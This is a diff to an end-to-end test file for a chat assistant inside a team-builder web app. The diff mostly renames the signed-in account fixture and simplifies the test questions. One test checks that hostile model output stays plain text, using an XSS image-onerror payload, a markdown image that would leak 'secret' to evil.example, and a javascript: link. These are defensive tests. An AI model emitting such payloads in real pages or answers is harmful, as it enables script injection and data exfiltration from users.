@@ -27,7 +27,7 @@ test('who is not signed in is told so @every-size', async ({ assistant, builder,
   await expect(assistant.button).toBeFocused();
 });
 
-test('a question, its answer and its sources @every-size', async ({ account, assistant, builder, page }) => {
+test('a question, its answer and its sources @every-size', async ({ account: _signedIn, assistant, builder, page }) => {
   await builder.open();
   await assistant.expand();
   await expect(assistant.conversation).toContainText(`${GREETING} You can ask 5 questions a day.`);
@@ -50,13 +50,16 @@ test('a question, its answer and its sources @every-size', async ({ account, ass
   await expectNoAxeViolations(page);
   await assistant.conversation.getByRole('button', { name: 'Hide sources', exact: true }).click();
   await expect(sources).toBeHidden();
-  expect(account.token).not.toBe('');
 });
 
-test('the text grows as it comes, and the field is closed meanwhile', async ({ account, assistant, builder }) => {
+test('the text grows as it comes, and the field is closed meanwhile', async ({
+  account: _signedIn,
+  assistant,
+  builder,
+}) => {
   await builder.open();
   await assistant.expand();
-  await assistant.ask(unique(`{{slow}} Who, ${account.email.length}?`));
+  await assistant.ask(unique('{{slow}} Who?'));
   await expect(assistant.field).toBeDisabled();
   await expect(assistant.send).toBeDisabled();
   await expect(assistant.stop).toBeFocused();
@@ -70,10 +73,10 @@ test('the text grows as it comes, and the field is closed meanwhile', async ({ a
   await expect(assistant.conversation.getByRole('button', { name: 'Show sources (3)' })).toBeVisible();
 });
 
-test('Stop keeps what has come, here and in the history', async ({ account, assistant, builder, page }) => {
+test('Stop keeps what has come, here and in the history', async ({ account: _signedIn, assistant, builder, page }) => {
   await builder.open();
   await assistant.expand();
-  await assistant.ask(unique(`{{slow}} Who, ${account.email.length}?`));
+  await assistant.ask(unique('{{slow}} Who?'));
   await expect(assistant.conversation).toContainText(START);
   await assistant.stop.click();
   await expect(assistant.conversation.getByText('Stopped', { exact: true })).toBeVisible();
@@ -87,11 +90,11 @@ test('Stop keeps what has come, here and in the history', async ({ account, assi
   await expect(assistant.conversation).not.toContainText(ANSWER.slice(-20));
 });
 
-test('a free user comes to the limit', async ({ account, assistant, builder, page }) => {
+test('a free user comes to the limit', async ({ account: _signedIn, assistant, builder, page }) => {
   await builder.open();
   await assistant.expand();
   for (let left = 4; left >= 0; left -= 1) {
-    await assistant.ask(unique(`Who, ${account.email.length}?`));
+    await assistant.ask(unique('Who?'));
     await expect(assistant.panel.getByText(`${left} of 5 questions left today`)).toBeVisible();
   }
   await expect(assistant.panel.getByText('Rate Limit Reached')).toBeVisible();
@@ -117,11 +120,10 @@ test('the admin has no limit', async ({ context, baseURL, assistant, builder }) 
 });
 
 test('suggested questions fit the selected slot, and players of the answer can be added', async ({
-  account,
+  account: _signedIn,
   assistant,
   builder,
 }) => {
-  expect(account.email).not.toBe('');
   await builder.open();
   await builder.slot('LB').click();
   await assistant.expand();
@@ -152,10 +154,14 @@ test.describe('trouble', () => {
   // The browser itself reports an answer that is none.
   test.use({ expectedProblems: [/Failed to load resource.*50[024]/] });
 
-  test('a failed answer can be asked for again, and costs nothing', async ({ account, assistant, builder }) => {
+  test('a failed answer can be asked for again, and costs nothing', async ({
+    account: _signedIn,
+    assistant,
+    builder,
+  }) => {
     await builder.open();
     await assistant.expand();
-    await assistant.ask(unique(`{{server-error once}} Who, ${account.email.length}?`));
+    await assistant.ask(unique('{{server-error once}} Who?'));
     await expect(assistant.conversation.getByRole('alert')).toHaveText(ASSISTANT_FAILED);
     await expect(assistant.panel.getByText('5 of 5 questions left today')).toBeVisible();
     await assistant.conversation.getByRole('button', { name: 'Try again' }).click();
@@ -165,23 +171,23 @@ test.describe('trouble', () => {
   });
 
   test('an answer that breaks off ends in the sentence, below what had come', async ({
-    account,
+    account: _signedIn,
     assistant,
     builder,
   }) => {
     await builder.open();
     await assistant.expand();
-    await assistant.ask(unique(`{{cut}} Who, ${account.email.length}?`));
+    await assistant.ask(unique('{{cut}} Who?'));
     await expect(assistant.conversation.getByRole('alert')).toContainText(ASSISTANT_FAILED);
     await expect(assistant.conversation.getByRole('alert')).toContainText(START);
     await expect(assistant.conversation.getByRole('button', { name: 'Try again' })).toBeVisible();
     await expect(assistant.field).toBeEnabled();
   });
 
-  test('whatever a model sends stays text', async ({ account, assistant, builder, page, problems }) => {
+  test('whatever a model sends stays text', async ({ account: _signedIn, assistant, builder, page, problems }) => {
     await builder.open();
     await assistant.expand();
-    await assistant.ask(unique(`{{hostile}} Who, ${account.email.length}?`));
+    await assistant.ask(unique('{{hostile}} Who?'));
     await expect(assistant.conversation).toContainText('<img src=x onerror="window.intruder=true">');
     await expect(assistant.conversation).toContainText(
       '![](https://evil.example/?q=secret) [click](javascript:window.intruder=true)',
@@ -196,20 +202,29 @@ test.describe('trouble', () => {
     expect(problems).toEqual([]);
   });
 
-  test('a megabyte and 500 sources are cut, and the screen stays alive', async ({ account, assistant, builder }) => {
+  test('a megabyte and 500 sources are cut, and the screen stays alive', async ({
+    account: _signedIn,
+    assistant,
+    builder,
+  }) => {
     await builder.open();
     await assistant.expand();
-    await assistant.ask(unique(`{{large}} Who, ${account.email.length}?`));
+    await assistant.ask(unique('{{large}} Who?'));
     await expect(assistant.panel.getByText('4 of 5 questions left today')).toBeVisible();
     expect((await assistant.conversation.textContent())?.length).toBeLessThan(17_000);
     await assistant.ask(unique('{{many-citations}} Who?'));
     await expect(assistant.conversation.getByRole('button', { name: 'Show sources (20)' })).toBeVisible();
   });
 
-  test('signed out in the middle of a question, nothing of it stays', async ({ account, assistant, builder, page }) => {
+  test('signed out in the middle of a question, nothing of it stays', async ({
+    account: _signedIn,
+    assistant,
+    builder,
+    page,
+  }) => {
     await builder.open();
     await assistant.expand();
-    const question = unique(`{{hang}} Who, ${account.email.length}?`);
+    const question = unique('{{hang}} Who?');
     await assistant.ask(question);
     await expect(assistant.conversation).toContainText(question);
     await page.getByRole('button', { name: 'Account menu' }).click();
@@ -223,7 +238,7 @@ test.describe('trouble', () => {
 test.describe('two tabs', () => {
   test.use({ expectedProblems: [/Failed to load resource.*429/] });
 
-  test('share one limit', async ({ account, assistant, builder, context }) => {
+  test('share one limit', async ({ account: _signedIn, assistant, builder, context }) => {
     await builder.open();
     await assistant.expand();
     const other = await context.newPage();
@@ -232,7 +247,7 @@ test.describe('two tabs', () => {
     await second.expand();
     await expect(second.panel.getByText('5 of 5 questions left today')).toBeVisible();
     for (let left = 4; left >= 0; left -= 1) {
-      await assistant.ask(unique(`Who, ${account.email.length}?`));
+      await assistant.ask(unique('Who?'));
       await expect(assistant.panel.getByText(`${left} of 5 questions left today`)).toBeVisible();
     }
     await second.ask(unique('And here?'));
@@ -243,14 +258,14 @@ test.describe('two tabs', () => {
 });
 
 test('the conversation is back after a reload, is counted, and can be forgotten', async ({
-  account,
+  account: _signedIn,
   assistant,
   builder,
   page,
 }) => {
   await builder.open();
   await assistant.expand();
-  const question = unique(`Who, ${account.email.length}?`);
+  const question = unique('Who?');
   await assistant.ask(question);
   await expect(assistant.conversation).toContainText(ANSWER);
   await page.reload();
